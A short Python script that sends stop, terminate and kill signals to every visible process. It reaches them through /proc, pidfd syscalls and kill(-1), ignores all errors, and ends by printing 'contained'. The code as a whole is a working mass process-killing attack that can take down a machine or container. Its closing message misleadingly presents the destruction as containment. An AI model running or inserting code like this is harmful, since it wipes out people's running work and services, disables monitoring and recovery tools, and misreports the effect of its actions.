# Walks /proc for every visible pid and stops, terminates and kills it, pidfd included.
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
SYS_pidfd_open, SYS_pidfd_send_signal = 434, 424
me = os.getpid()
for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            try:
                os.kill(int(name), sig)
            except OSError:
                pass
            fd = libc.syscall(SYS_pidfd_open, int(name), 0)
            if fd >= 0:
                libc.syscall(SYS_pidfd_send_signal, fd, int(sig), None, 0)
                os.close(fd)
    try:
        os.kill(-1, sig)
    except OSError:
        pass
print("contained")
